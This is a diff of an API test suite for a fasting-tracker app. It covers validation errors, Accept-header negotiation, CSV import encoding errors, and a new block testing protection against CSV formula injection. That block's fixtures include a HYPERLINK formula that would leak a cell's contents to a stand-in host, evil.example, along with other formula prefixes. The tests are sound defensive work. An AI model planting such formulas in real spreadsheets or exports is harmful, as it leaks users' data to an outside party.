@@ -119,8 +119,9 @@ describe('GET/PUT /fasting/schedule', () => {
         timezone: 'Mars/Olympus', colour: 'red', reminder_minutes_before: 5000 });
       assertError(both, 400, 'VAL_001');
       assertMatchesContract('PUT', SCHEDULE, both);
+      // The unknown zone is named with the rest (issue 10: every bad field in one answer).
       assert.deepEqual(fields(both), ['colour', 'fasting_seconds', 'reminder_minutes_before',
-        'start_time', 'weekdays']);
+        'start_time', 'timezone', 'weekdays']);
       const zone = await call('PUT', SCHEDULE, u.access, {
         protocol_id: p168.id, start_time: '20:00', timezone: 'Mars/Olympus' });
       assertError(zone, 400, 'VAL_001');
@@ -129,6 +130,13 @@ describe('GET/PUT /fasting/schedule', () => {
         protocol_id: p52.id, start_time: '08:00', weekdays: [1, 3, 5] });
       assertError(threeDays, 400, 'VAL_001');
       assert.match(threeDays.json.error.details[0].message, /exactly 2 days/);
+      // The protocol's rules are checked even when another field is bad.
+      const threeAndMore = await call('PUT', SCHEDULE, u.access, {
+        protocol_id: p52.id, start_time: '8am', weekdays: [1, 3, 5],
+        reminder_minutes_before: -1, timezone: 'Mars/Olympus' });
+      assertError(threeAndMore, 400, 'VAL_001');
+      assert.deepEqual(fields(threeAndMore), ['reminder_minutes_before', 'start_time', 'timezone',
+        'weekdays']);
       const adjacent = await call('PUT', SCHEDULE, u.access, {
         protocol_id: p52.id, start_time: '08:00', weekdays: [7, 1] });
       assertError(adjacent, 400, 'VAL_001');
@@ -237,6 +245,12 @@ describe('GET /fasting/schedule/upcoming', () => {
       assertError(bad, 400, 'VAL_001');
       assertMatchesContract('GET', UPCOMING, bad);
     }
+    assert.deepEqual(fields(await call('GET', `${UPCOMING}?days=0&from=2026-02-30`, u.access)),
+      ['days', 'from']);
+    const stats = await call('GET', `${STATS}?from=2026-13-01&to=today`, u.access);
+    assertError(stats, 400, 'VAL_001');
+    assertMatchesContract('GET', STATS, stats);
+    assert.deepEqual(fields(stats), ['from', 'to']);
   });
 });
 
@@ -350,6 +364,16 @@ describe('streaks and stats', () => {
     assert.equal(json.status, 200);
     assertMatchesContract('GET', EXPORT, json);
     assert.equal(json.json.data.count, 9);
+    // Accept: the CSV for a client that asks for it; 406 for one that takes neither type.
+    const asked = await call('GET', EXPORT, u.access, undefined, { accept: 'text/csv' });
+    assert.equal(asked.status, 200, asked.text);
+    assert.equal(asked.text, csv.text);
+    const either = await call('GET', `${EXPORT}?format=json`, u.access, undefined,
+      { accept: 'text/csv;q=0.5, application/json' });
+    assert.equal(either.status, 200, either.text);
+    const xml = await call('GET', EXPORT, u.access, undefined, { accept: 'application/xml' });
+    assertError(xml, 406, 'REQ_005');
+    assertMatchesContract('GET', EXPORT, xml);
 
     const v = await newUser('Asia/Tokyo');
     const imported = await importCsv(v.access, csv.text);
@@ -375,6 +399,70 @@ describe('streaks and stats', () => {
   });
 });
 
+describe('CSV export guards spreadsheet formulas (OWASP CSV injection)', () => {
+  // Notes a spreadsheet would run as formulas, and one a user quoted themselves.
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', '-2',
+    '@SUM(A1)', '\t=1', "'=already quoted"];
+  // How each is written: one quote more, and the field always quoted (quotes doubled).
+  const CELLS = ['"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"', '"\'+1+1"',
+    '"\'-2"', '"\'@SUM(A1)"', '"\'\t=1"', '"\'\'=already quoted"'];
+
+  test('notes are written as quoted text, and an import brings them back identical', async () => {
+    const u = await newUser('UTC');
+    const now = Date.now();
+    for (const [i, notes] of HOSTILE.entries()) {
+      const start = now - (47 - 7 * i) * 3600e3;
+      const s = await call('POST', SESSIONS, u.access, {
+        target_hours: 1, started_at: iso(start), notes });
+      assert.equal(s.status, 201, s.text);
+      const e = await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
+        ended_at: iso(start + 2 * 3600e3) });
+      assert.equal(e.status, 200, e.text);
+    }
+    const csv = await call('GET', EXPORT, u.access);
+    assert.equal(csv.status, 200, csv.text);
+    const lines = csv.text.split('\r\n');
+    assert.equal(lines[0], HEADER);
+    assert.equal(lines.length, 1 + HOSTILE.length + 1, csv.text);  // the last is empty
+    for (const [i, cell] of CELLS.entries()) {
+      assert.ok(lines[1 + i].endsWith(`,2.00,1.00,completed,,UTC,${cell}`), lines[1 + i]);
+    }
+    // The JSON export is not for spreadsheets: notes exactly as written.
+    const json = await call('GET', `${EXPORT}?format=json`, u.access);
+    assert.deepEqual(json.json.data.fasts.map((f) => f.notes), HOSTILE);
+
+    const v = await newUser('Asia/Tokyo');
+    const imported = await importCsv(v.access, csv.text);
+    assert.equal(imported.status, 200, imported.text);
+    assert.deepEqual(imported.json.data, { imported: HOSTILE.length, skipped_duplicates: 0 });
+    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
+    assert.deepEqual(copy.json.data.fasts.map((f) => f.notes), HOSTILE);
+    const stored = await psql(`SELECT string_agg(encode(convert_to(notes, 'UTF8'), 'hex'), ',' `
+      + `ORDER BY started_at) FROM fasting_sessions WHERE user_id = '${v.id}'`);
+    assert.equal(stored, HOSTILE.map((n) => Buffer.from(n).toString('hex')).join(','));
+    // Importing the same file again recognises every row.
+    const again = await importCsv(v.access, csv.text);
+    assert.deepEqual(again.json.data, { imported: 0, skipped_duplicates: HOSTILE.length });
+  });
+
+  test('a note of 2000 characters, not bytes, survives the round trip', async () => {
+    const u = await newUser('UTC');
+    const notes = `=${'é'.repeat(1999)}`;  // the API's maximum, 4000 bytes, guarded on export
+    const start = Date.now() - 10 * 3600e3;
+    const s = await call('POST', SESSIONS, u.access, {
+      target_hours: 1, started_at: iso(start), notes });
+    assert.equal(s.status, 201, s.text);
+    await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
+      ended_at: iso(start + 3600e3) });
+    const csv = await call('GET', EXPORT, u.access);
+    const v = await newUser();
+    const imported = await importCsv(v.access, csv.text);
+    assert.equal(imported.status, 200, imported.text);
+    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
+    assert.equal(copy.json.data.fasts[0].notes, notes);
+  });
+});
+
 describe('POST /fasting/sessions/import refusals store nothing', () => {
   test('bad rows are 422 naming each line', async () => {
     const u = await newUser();
@@ -389,6 +477,21 @@ describe('POST /fasting/sessions/import refusals store nothing', () => {
     assertError(res, 422, 'FAST_012');
     assertMatchesContract('POST', IMPORT, res);
     assert.deepEqual([...new Set(fields(res))], ['line 3', 'line 4', 'line 5', 'line 6']);
+    assert.equal(await sessionsOf(u.id), 0);
+  });
+
+  test('text the database cannot hold (not UTF-8, NUL) is 400 naming its line', async () => {
+    const u = await newUser();
+    const good = row({ start: '2026-01-05T20:00:00Z', end: '2026-01-06T12:00:00Z', notes: 'ok' });
+    for (const bad of [Buffer.from([0x66, 0xff, 0x6f]), Buffer.from([0x61, 0x00, 0x62]),
+      Buffer.from([0xed, 0xa0, 0x80])]) {  // a lone byte, a NUL, an encoded surrogate
+      const body = Buffer.concat([Buffer.from(`${HEADER}\n${good}\n,2026-01-06T20:00:00Z,`
+        + '2026-01-07T12:00:00Z,,16,completed,,,'), bad, Buffer.from('\n')]);
+      const res = await importCsv(u.access, body);
+      assertError(res, 400, 'VAL_001');
+      assertMatchesContract('POST', IMPORT, res);
+      assert.deepEqual(fields(res), ['line 3']);
+    }
     assert.equal(await sessionsOf(u.id), 0);
   });
 
